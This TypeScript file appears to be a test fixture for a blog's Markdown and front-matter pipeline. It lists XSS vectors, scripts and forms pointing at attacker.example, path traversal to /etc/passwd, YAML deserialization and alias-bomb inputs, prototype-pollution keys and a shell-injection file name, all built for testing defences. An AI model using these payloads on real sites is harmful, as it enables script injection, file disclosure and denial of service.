/** Something hostile that an author, or whoever writes in an author's name, might put into a post. */
export interface Payload {
  /** What it tries, in a few words. */
  tries: string;
  /** Lines of YAML for the front matter; they take the place of fields of the same name. */
  fields?: Readonly<Record<string, string>>;
  /** Further lines of the front matter, as they stand. */
  header?: string;
  body?: string;
  /** How the file is called, below its folder; by default as the slug demands. */
  file?: string;
  /** Whether the post must be refused; otherwise it may stay, made harmless. */
  refused?: true;
}

/** What every script of a payload calls: a page on which it was called has been attacked. */
const call = 'attacked()';

const inBodies: readonly (readonly [string, string])[] = [
  ['a script', `<script>${call}</script>`],
  ['a script in capitals', `<SCRIPT>${call}</SCRIPT>`],
  ['a script in two halves', `<scr<script>ipt>${call}</scr</script>ipt>`],
  ['a script after a slash', `<script/x>${call}</script>`],
  ['a script of another host', '<script src="https://attacker.example/x.js"></script>'],
  ['an image with a handler', `<img src=x onerror=${call}>`],
  ['an image with a handler in quotes', `<img src="x" onerror="${call}">`],
  ['a broken image tag', `<img """><script>${call}</script>">`],
  ['a drawing with a handler', `<svg onload=${call}></svg>`],
  ['a script in a drawing', `<svg><script>${call}</script></svg>`],
  [
    'an animation that sets a link',
    `<svg><a><animate attributeName=href values=javascript:${call} /><text y=20>x</text></a></svg>`,
  ],
  ['a handler on a body', `<body onload=${call}>`],
  ['a frame with a script', `<iframe src="javascript:${call}"></iframe>`],
  ['a frame with its document', `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`],
  ['an object', `<object data="javascript:${call}"></object>`],
  ['an embedded file', `<embed src="data:text/html,<script>${call}</script>">`],
  ['a handler on details', `<details open ontoggle=${call}>x</details>`],
  ['a handler on an input', `<input autofocus onfocus=${call}>`],
  ['a handler on a video', `<video><source onerror=${call}></video>`],
  ['a handler on a marquee', `<marquee onstart=${call}>x</marquee>`],
  ['a form that leads away', '<form action="https://attacker.example"><button>Go</button></form>'],
  [
    'a button that leads to a script',
    `<form><button formaction="javascript:${call}">x</button></form>`,
  ],
  ['another base', '<base href="https://attacker.example/">'],
  ['a refresh', `<meta http-equiv="refresh" content="0;url=javascript:${call}">`],
  ['a style sheet', '<link rel="stylesheet" href="https://attacker.example/x.css">'],
  ['a style', '<style>* { display: none }</style>'],
  ['a style attribute', '<p style="position:fixed;inset:0">x</p>'],
  [
    'the mutation of math',
    `<math><mtext><table><mglyph><style><img src=x onerror=${call}></style></mglyph></table></mtext></math>`,
  ],
  ['the mutation of noscript', `<noscript><p title="</noscript><img src=x onerror=${call}>">`],
  ['a comment that ends early', `<!--><img src=x onerror=${call}>-->`],
  ['a comment that ends late', `<!-- --!><img src=x onerror=${call}> -->`],
  ['CDATA', `<![CDATA[<img src=x onerror=${call}>]]>`],
  ['a processing instruction', `<?xml version="1.0"?><script>${call}</script>`],
  ['a template', `<template><script>${call}</script></template>`],
  ['a link to a script', `[x](javascript:${call})`],
  ['a link to a script in capitals', `[x](JaVaScRiPt:${call})`],
  ['a link to a script behind an entity', `[x](java&#115;cript:${call})`],
  ['a link to a script behind a new line', `[x](java&#10;script:${call})`],
  ['a link to a script behind a tab', `[x](java&Tab;script:${call})`],
  ['a link to a script in angle brackets', `[x](<javascript:${call}>)`],
  ['an autolink to a script', `<javascript:${call}>`],
  ['a link to a script by reference', `[x][evil]\n\n[evil]: javascript:${call}`],
  ['a link to VBScript', '[x](vbscript:msgbox(1))'],
  ['a link to data', `[x](data:text/html,<script>${call}</script>)`],
  ['a link with a handler in its title', `[x](https://a.example '"onmouseover="${call}')`],
  ['an image of data', `![x](data:image/svg+xml,<svg onload=${call}>)`],
  [
    'an image with a handler in its alt text',
    `![" onerror="${call}](../images/posts/001-implementing-workflow-automation.png)`,
  ],
  ['a raw link to a script', `<a href="javascript:${call}">x</a>`],
  ['a raw link with a handler', `<a href="#" onclick="${call}">x</a>`],
  ['markup in a heading', `## <img src=x onerror=${call}> heading`],
  ['a heading whose id is a property', '## constructor\n\n## __proto__\n\n## toString'],
  ['an id that hides a global', '<a id="root"></a>\n\n## root'],
  ['the end of a code block', `\`\`\`html\n</code></pre><script>${call}</script>\n\`\`\``],
  ['a language that is markup', `\`\`\`"><script>${call}</script>\ncode\n\`\`\``],
  ['a language that is a path', '```../../../../package\ncode\n```'],
  ['markup in a table', `| a |\n| - |\n| <img src=x onerror=${call}> |`],
  ['markup in a footnote', `Text[^1].\n\n[^1]: <img src=x onerror=${call}>`],
  ['a footnote whose name is markup', `Text[^"><script>].\n\n[^"><script>]: ${call}`],
  ['markup in a callout', `> [!NOTE]\n> <img src=x onerror=${call}>`],
  ['the end of the data in the page', `</script><script>${call}</script>`],
  ['markers of the document', '{{head}} {{markup}} {{data}} {{language}}'],
  ['patterns of a replacement', "$& $1 $` $' $$ $<name>"],
  ['a template literal', `\${${call}} {{constructor.constructor('${call}')()}} <%= ${call} %>`],
  ['text that runs backwards', 'safe \u202Etxt.exe\u202C and \u2066hidden\u2069'],
  ['control characters', 'bell \u0007, escape \u001B[31m, null \u0000 end'],
  ['half a surrogate', 'half \uD83D of a character'],
  ['quotes without end', `${'> '.repeat(400)}deep`],
  [
    'lists without end',
    Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
  ],
  ['brackets without end', '['.repeat(5000)],
  ['stars without end', '*a '.repeat(5000)],
];

/** A second helping: what hides its meaning, takes names that the page needs, or costs time. */
const inBodiesToo: readonly (readonly [string, string])[] = [
  [
    'headings with the names of what the page needs',
    '## Root\n\n## Page data\n\n## Page code\n\n## Body',
  ],
  [
    'headings with the names of properties',
    '## __proto__\n\n## constructor\n\n## document\n\n## hasOwnProperty',
  ],
  ['a link to a script behind a null', `[x](&#0;javascript:${call})`],
  ['a link to a script behind letters that are not seen', `[x](\u200bjavascript:${call})`],
  ['a link to a script with a soft hyphen', `[x](java\u00adscript:${call})`],
  ['a link to a script after a comment', `[x](javascript://%0a${call})`],
  ['a link to a script in letters of full width', `[x](ｊavascript:${call})`],
  ['a link to the source of a script', `[x](view-source:javascript:${call})`],
  ['a link to a script of the browser', `[x](blob:null/${call})`],
  ['a link to the programs of a phone', '[x](intent://attacker.example#Intent;scheme=https;end)'],
  ['a link to data in base64', '[x](data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+)'],
  ['a link to data in capitals', `[x](DATA:text/html,<script>${call}</script>)`],
  ['a link with two backslashes', '[x](\\\\\\\\attacker.example/x)'],
  ['a link with a slash and a backslash', '[x](/\\\\attacker.example/x)'],
  ['a link whose anchor decodes to nothing', '[x](#%E0%A4%A) [y](/about/us#100%)'],
  ['an autolink with a handler', `<https://a.example/"onmouseover=${call}>`],
  ['an autolink with markup', `https://a.example/<img/src=x/onerror=${call}>`],
  ['an address of mail with a handler', `<"onclick=${call}"@a.example>`],
  ['an image whose text is markup', `![<img src=x onerror=${call}>](x" onerror="${call})`],
  [
    'a reference whose label is markup',
    `[x]["><img src=x onerror=${call}>]\n\n["><img src=x onerror=${call}>]: /about/us`,
  ],
  ['a language that is an attribute', `~~~js" onmouseover="${call}\ncode\n~~~`],
  ['a language that is a property', '```__proto__\ncode\n```\n\n```constructor\ncode\n```'],
  ['the marker of a body', `<div data-page-body><img src=x onerror=${call}></div>`],
  ['a script that is read twice', `<!--<script>${call}</script>--><script>-->${call}</script>`],
  ['a tag in letters of another alphabet', `<ſcript>${call}</ſcript><ımg src=x onerror=${call}>`],
  ['a tag that a null cuts', `<scr\u0000ipt>${call}</scr\u0000ipt>`],
  [
    'an element that a form names',
    '<input name=body><img name=getElementById><a id=location>x</a>',
  ],
  [
    'a portal, a fenced frame and a slot',
    `<portal src="javascript:${call}"></portal><fencedframe></fencedframe><slot></slot>`,
  ],
  [
    'a declarative shadow',
    `<div><template shadowrootmode=open><img src=x onerror=${call}></template></div>`,
  ],
  [
    'a popover with a handler',
    `<p popover id=p onbeforetoggle=${call}>x</p><button popovertarget=p>x</button>`,
  ],
  ['an access key', `<a accesskey=x href="javascript:${call}">x</a>`],
  ['a list of tasks with a handler', `- [ ] <input onclick=${call}>\n- [x"onclick=${call}] x`],
  ['code that never ends', `\`\`\`js\n${'('.repeat(20_000)}`],
  ['quotes in quotes of code', '`'.repeat(5000)],
  ['links in links', '[a]('.repeat(5000)],
  ['images in images', '!['.repeat(5000)],
  ['tags without end', '<a '.repeat(5000)],
  ['comments without end', '<!-- '.repeat(5000)],
  ['entities without end', '&amp'.repeat(10_000)],
  ['a table of many columns', `|${'a|'.repeat(200)}\n|${'-|'.repeat(200)}\n${'|\n'.repeat(50)}`],
  ['a footnote that is named again and again', `${'[^a] '.repeat(200)}\n\n[^a]: x[^a]`],
];

/** Fields whose text ends in markup, attributes, structured data or feeds. */
const textFields = [
  'title',
  'excerpt',
  'metaDescription',
  'featuredImageAlt',
  'category',
  'tags',
  'keywords',
  'author',
] as const;

const texts: readonly (readonly [string, string])[] = [
  ['a script', `</script><script>${call}</script>`],
  ['an attribute', `"><img src=x onerror=${call}>`],
  ['the end of a comment or CDATA', `--> ]]> <img src=x onerror=${call}>`],
  ['patterns of a replacement and markers', "$& $' {{head}} {{data}} </title></head>"],
  ['separators of lines', 'one\u2028two\u2029three'],
];

/** A text as YAML that means exactly it. */
const quoted = (text: string) => JSON.stringify(text);

function fieldOf(name: (typeof textFields)[number], text: string): string {
  if (name === 'tags' || name === 'keywords') return `[${quoted(text)}]`;
  if (name === 'author')
    return `{ name: ${quoted(text)}, role: ${quoted(text)}, bio: ${quoted(text)} }`;
  return quoted(text);
}

const slugs = [
  '../escape',
  '../../../../tmp/escape',
  '..',
  '.',
  '/etc/passwd',
  'a/../../b',
  '..%2f..%2fescape',
  '..\\escape',
  'C:\\escape',
  'a/b',
  '<script>attacked()</script>',
  '"><img src=x onerror=attacked()>',
  'null\u0000byte',
  'two words',
  'ÜBER',
  '.htaccess',
  'a?b#c',
  'x'.repeat(300),
];

/** Those of them that are refused, as links to pages that do not exist. */
const deadLinks = new Set([
  'a link to a script behind a null',
  'a link to a script behind letters that are not seen',
  'a link to a script with a soft hyphen',
  'a link to a script in letters of full width',
  'a link with two backslashes',
  'a link with a slash and a backslash',
  'a link whose anchor decodes to nothing',
]);

/** Colours end in a style sheet or an attribute. */
const colors = [
  'red;background:url(//attacker.example)',
  '#0091FF"><script>attacked()</script>',
  'url(//attacker.example)',
  '#0091FF\\0',
];

const images = [
  '../images/placeholder.png/../../../package.json',
  '/content/images/%2e%2e/%2e%2e/package.json',
  '../../../../../../etc/passwd',
  '/etc/passwd',
  'file:///etc/passwd',
  'https://attacker.example/x.png',
  '//attacker.example/x.png',
  'javascript:attacked()',
  'data:image/svg+xml,<svg onload=attacked()>',
  '..\\..\\secret.png',
];

/** Files outside the folder of images, and ways to write them. */
const bodyImages = [
  '../../package.json',
  '../images/../../package.json',
  '../../../../../../etc/passwd',
  '/etc/passwd',
  '/site/site.config.ts',
  '..%2f..%2fpackage.json',
  '%2e%2e/%2e%2e/package.json',
  'file:///etc/passwd',
  '..\\..\\package.json',
  '../images/posts/001-implementing-workflow-automation.png%00.svg',
];

/** Names of files, which end in messages, in keys of the cache and in nothing that is published. */
const fileNames = [
  '<img src=x onerror=attacked()>.md',
  '"><script>attacked()<\u2215script>.md',
  '..%2f..%2fescape.md',
  '.. .md',
  '__proto__.md',
  '$(touch escape) `touch escape` ; touch escape.md',
  'new\nline \u001B[31m.md',
  'gnp.\u202Edm.md',
  `{{head}} $& \${${call}}.md`,
];

/** Texts that show another thing than they are, or that a program stumbles over. */
const deceptive: readonly (readonly [string, string])[] = [
  ['text that runs backwards', 'safe \u202Etxt.exe\u202C \u2066hidden\u2069 \u200F'],
  ['control characters', 'bell \u0007, escape \u001B[31m, delete \u007F, next line \u0085'],
  ['characters that are none', 'zero \u200B width \uFEFF, half \uD83D, none \uFFFF'],
  ['markers of templates', `{{data}} \${${call}} <%= ${call} %> #{${call}} {% raw %} $1`],
  ['the end of JSON-LD', '</script><!--<script>{"@context":"x"}]]></SCRIPT \u2028'],
];

const headers: readonly (readonly [string, string])[] = [
  ['a key that is the prototype', '__proto__: { attacked: true }'],
  ['a key that is the constructor', 'constructor: { prototype: { attacked: true } }'],
  ['a merge with the prototype', 'author: { __proto__: { attacked: true }, name: A, role: B }'],
  ['a tag of JavaScript', 'excerpt: !!js/function "function () { attacked() }"'],
  ['a tag of an object', 'excerpt: !!python/object/apply:os.system ["true"]'],
  [
    'aliases that grow without end',
    [
      'a: &a [x,x,x,x,x,x,x,x,x]',
      ...[...'bcdefghi'].map((name, index) => {
        const before = 'abcdefgh'[index];
        return `${name}: &${name} [${Array(9).fill(`*${before}`).join(',')}]`;
      }),
    ].join('\n'),
  ],
  ['brackets without end, in YAML', `excerpt: ${'['.repeat(20_000)}`],
  ['maps without end', `excerpt: ${'{a: '.repeat(5000)}`],
  ['a key without end', `? ${'a'.repeat(5000)}\n: x`],
  ['a merge of many', `<<: [${'{a: 1},'.repeat(2000)}]`],
  ['a tag of a file', 'excerpt: !include ../../package.json'],
  ['an alias of itself', 'excerpt: &loop [*loop]'],
  ['a second document', '...\n---\nexcerpt: other'],
  ['a key twice', 'slug: another-slug'],
];

export const payloads: readonly Payload[] = [
  {
    tries: 'a link to a script behind a control character, in a body',
    body: `[x](&#1;javascript:${call})`,
    refused: true,
  },
  { tries: 'an image of a script, in a body', body: `![x](javascript:${call})`, refused: true },
  ...inBodies.map(([tries, body]) => ({ tries: `${tries}, in a body`, body })),
  ...inBodiesToo.map(([tries, body]) => ({
    tries: `${tries}, in a body`,
    body,
    ...(deadLinks.has(tries) && { refused: true as const }),
  })),
  ...colors.map((color) => ({
    tries: `the color ${color}`,
    fields: { categoryColor: quoted(color) },
    refused: true as const,
  })),
  ...['page', 'category', '404'].map((slug) => ({
    tries: `the slug ${slug}, which may be taken`,
    fields: { slug },
  })),
  { tries: 'the slug of a folder', fields: { slug: 'index' }, refused: true },
  {
    tries: 'a hundred tags, as many as the budget of a page takes',
    fields: { tags: `[${Array.from({ length: 100 }, (_, n) => `t${n}`).join(', ')}]` },
  },
  { tries: 'an age of time', fields: { publishedAt: '"0000-00-00"' }, refused: true },
  ...textFields.flatMap((name) =>
    texts.map(([tries, text]) => ({
      tries: `${tries}, in ${name}`,
      fields: { [name]: fieldOf(name, text) },
    })),
  ),
  ...slugs.map((slug) => ({
    tries: `the slug ${slug.slice(0, 40)}`,
    fields: { slug: quoted(slug) },
    refused: true as const,
  })),
  ...[
    '../escape',
    '<script>attacked()</script>',
    '__proto__',
    'constructor',
    'all',
    'index',
    'con',
  ].map((id) => ({
    tries: `the category id ${id}`,
    fields: { categoryId: quoted(id) },
  })),
  ...images.flatMap((image) => [
    {
      tries: `the featured image ${image}`,
      fields: { featuredImage: quoted(image) },
      refused: true as const,
    },
    {
      tries: `the avatar ${image}`,
      fields: { author: `{ name: A, role: B, avatar: ${quoted(image)} }` },
      refused: true as const,
    },
  ]),
  ...bodyImages.map((image) => ({
    tries: `the image ${image}, in a body`,
    body: `![A picture](<${image}>)`,
    refused: true as const,
  })),
  ...fileNames.map((file) => ({ tries: `the file name ${JSON.stringify(file)}`, file })),
  ...deceptive.map(([tries, text]) => ({
    tries: `${tries}, in every field`,
    fields: Object.fromEntries(textFields.map((name) => [name, fieldOf(name, text)])),
    body: `## ${text}\n\n${text}\n\n\`\`\`${text}\n${text}\n\`\`\``,
  })),
  ...headers.map(([tries, header]) => ({ tries, header, refused: true as const })),
];
